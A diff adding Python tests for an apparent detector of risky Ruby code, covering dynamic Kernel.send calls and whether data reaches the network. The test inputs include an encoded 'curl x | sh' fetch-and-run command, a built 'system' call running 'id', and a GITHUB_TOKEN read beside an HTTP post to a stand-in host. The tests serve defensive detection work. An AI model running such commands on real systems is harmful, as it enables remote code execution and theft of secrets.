@@ -148,3 +148,14 @@ def test_a_dns_txt_record_evaluated_blocks() -> None:
 
 def test_popen_of_an_argument_list_running_decoded_text_blocks() -> None:
     assert blocks('IO.popen(["bash", "-c", Base64.decode64("Y3VybCB4IHwgc2g=")]).read\n')
+
+
+def test_send_of_an_attribute_name_is_ordinary_but_kernel_send_is_unresolved() -> None:
+    assert "unresolved" not in facts('def show(obj, attr)\n  obj.send(attr)\nend\n')
+    assert facts('def run(name)\n  Kernel.send(name, "x")\nend\n')["unresolved"]
+    assert facts('Object.send("sys#{ARGV[0]}", "id")\n')["unresolved"]
+
+
+def test_a_comparison_carries_no_data() -> None:
+    found = facts('t = ENV["GITHUB_TOKEN"]\nok = t == "x"\nNet::HTTP.post(URI("https://c.example"), ok.to_s)\n')
+    assert not [f for f in found[NETWORK_EGRESS] if f.carries]
